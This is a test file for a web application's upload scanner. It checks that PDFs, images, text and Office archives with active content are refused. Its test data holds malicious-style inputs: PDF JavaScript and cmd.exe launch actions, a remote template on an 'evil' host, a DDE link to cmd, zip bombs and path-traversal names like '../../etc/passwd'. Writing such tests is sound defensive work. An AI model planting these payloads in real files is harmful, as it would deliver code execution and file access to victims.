"""Each named attack, tried."""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.storage import default_storage
from PIL import Image

from yixiang.files.models import File
from yixiang.files.tests.conftest import Take, archive, packed_pdf, pdf, picture
from yixiang.kernel.errors import Invalid

MACRO_TYPES = b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
TEMPLATE = b'<Relationship Type="x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'
LINK = b'<Relationship Type="x/hyperlink" Target="http://fine/" TargetMode="External"/>'


def refusal(take: Take, content: bytes, name: str) -> str:
    with pytest.raises(Invalid) as refused:
        take(content, name)
    assert not File.objects.exists()
    return refused.value.code


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
        b"<< /S /J#61vaScript /JS 5 0 R >>",
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /Names << /EmbeddedFiles 7 0 R >> >>",
        b"<< /Type /EmbeddedFile >>",
        b"<< /AcroForm << /XFA [ (a) 8 0 R ] >> >>",
        b"<< /S /SubmitForm /F (http://x) >>",
    ],
)
def test_a_pdf_that_acts_is_refused_plain_and_packed(take: Take, action: bytes) -> None:
    assert refusal(take, pdf(b"2 0 obj\n" + action + b"\nendobj"), "a.pdf") == "file-active"
    assert refusal(take, packed_pdf(b"2 0 " + action), "a.pdf") == "file-active"
    assert refusal(take, packed_pdf(b"2 0 " + action, head=b"/N 1"), "a.pdf") == "file-active"


def test_a_pdf_with_links_and_a_packed_page_is_taken(take: Take) -> None:
    content = packed_pdf(b"2 0 << /S /URI /URI (https://example.cn) /Title (JavaScript) >>")
    assert take(content, "a.pdf").size == len(content)


@pytest.mark.parametrize("before", [b"<html><script>1</script>", b"MZ", b"\n"])
def test_a_pdf_with_something_before_it_is_refused(take: Take, before: bytes) -> None:
    assert refusal(take, before + pdf(), "a.pdf") in {"file-disguised", "file-kind"}


@pytest.mark.parametrize(
    "tail",
    [b"<script>1</script>", b"PK\x03\x04" + b"a" * 40, b"x" * 5000, archive()],
    ids=["script", "start of an archive", "much", "an archive"],  # an archive knows the time: no name to run it by
)
def test_a_pdf_with_something_behind_it_is_refused(take: Take, tail: bytes) -> None:
    assert refusal(take, pdf(tail=tail), "a.pdf") == "file-polyglot"


def test_a_locked_pdf_and_a_cut_off_one_are_refused(take: Take) -> None:
    assert refusal(take, pdf(b"trailer << /Encrypt 5 0 R >>"), "a.pdf") == "file-encrypted"
    assert refusal(take, pdf()[:40], "a.pdf") == "file-damaged"


def test_a_pdf_bomb_is_refused(take: Take, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("yixiang.files.inspection.pdf.MAX_UNPACKED", 1 << 20)
    assert refusal(take, packed_pdf(b"\x00" * (3 << 20)), "a.pdf") == "file-bomb"


@pytest.mark.parametrize("tail", [archive(kind="zip"), b"<script>alert(1)</script>"], ids=["archive", "script"])
def test_what_hangs_behind_an_image_is_gone_from_what_is_kept(take: Take, tail: bytes) -> None:
    file = take(picture("PNG") + tail, "a.png")
    with default_storage.open(file.path) as kept:
        assert tail not in kept.read()


def test_camera_and_position_are_gone_from_a_photo(take: Take) -> None:
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    exif.get_ifd(0x8825)[2] = (28.0, 12.0, 0.0)
    file = take(picture("JPEG", exif=exif, comment=b"secret comment"), "a.jpg")
    with default_storage.open(file.path) as kept:
        content = kept.read()
    assert b"Secret" not in content
    assert b"secret" not in content
    assert not Image.open(io.BytesIO(content)).getexif()


def test_a_photo_taken_sideways_stands_upright(take: Take) -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    file = take(picture("JPEG", size=(60, 40), exif=exif), "a.jpg")
    with default_storage.open(file.path) as kept:
        assert Image.open(kept).size == (40, 60)


def test_a_decompression_bomb_is_refused_before_it_is_unpacked(take: Take) -> None:
    ihdr = b"IHDR" + struct.pack("!IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0)
    content = b"\x89PNG\r\n\x1a\n" + struct.pack("!I", 13) + ihdr + struct.pack("!I", zlib.crc32(ihdr))
    assert refusal(take, content + picture("PNG")[33:], "a.png") == "file-pixels"


def test_a_broken_image_is_refused(take: Take) -> None:
    assert refusal(take, picture("JPEG")[:200], "a.jpg") == "file-damaged"


def test_a_zip_bomb_is_refused(take: Take) -> None:
    assert refusal(take, archive({"word/big.xml": b"0" * (20 << 20)}), "a.docx") == "file-bomb"
    many = {f"word/{n}.xml": b"" for n in range(3100)}
    assert refusal(take, archive(many), "a.docx") == "file-bomb"


@pytest.mark.parametrize(
    "extra",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/embeddings/oleObject1.bin": b"x"},
        {"word/activeX/activeX1.xml": b"x"},
        {"run.exe": b"x"},
        {"[Content_Types].xml": MACRO_TYPES},
        {"word/_rels/settings.xml.rels": TEMPLATE},
        {"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/>"},
    ],
)
def test_an_office_file_that_acts_is_refused(take: Take, extra: dict[str, bytes]) -> None:
    assert refusal(take, archive(extra), "a.docx") == "file-active"


def test_an_office_file_with_an_ordinary_link_is_taken(take: Take) -> None:
    assert take(archive({"word/_rels/document.xml.rels": LINK}), "a.docx").kind == "docx"


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "a\\..\\..\\b", "C:/x"])
def test_a_path_trick_inside_an_archive_is_refused(take: Take, name: str) -> None:
    assert refusal(take, archive({name: b"x"}), "a.docx") == "file-path"


def test_an_archive_with_something_before_or_behind_is_refused(take: Take) -> None:
    assert refusal(take, archive() + b"<script>", "a.docx") == "file-polyglot"
    assert refusal(take, b"PK\x03\x04" + b"\x00" * 60 + archive(), "a.docx") == "file-polyglot"


def test_overlapping_and_damaged_entries_are_refused(take: Take) -> None:
    content = bytearray(archive({"word/a.xml": bytes(range(256)) * 8}))
    at = content.rfind(b"PK\x01\x02")
    content[at + 42 : at + 46] = struct.pack("<I", 0)
    assert refusal(take, bytes(content), "a.docx") in {"file-polyglot", "file-damaged"}
    spoiled = bytearray(archive({"word/a.xml": b"abc"}))
    spoiled[spoiled.find(b"word/a.xml") + 10] ^= 0xFF
    assert refusal(take, bytes(spoiled), "a.docx") == "file-damaged"


def test_an_archive_with_a_password_is_refused(take: Take) -> None:
    content = bytearray(archive())
    at = content.find(b"PK\x01\x02")
    content[at + 8] |= 1
    assert refusal(take, bytes(content), "a.docx") == "file-encrypted"
    assert zipfile.is_zipfile(io.BytesIO(bytes(content)))


def test_a_text_with_a_script_in_it_is_refused(take: Take) -> None:
    assert refusal(take, b"hello\n<script>alert(1)</script>", "a.txt") == "file-active"
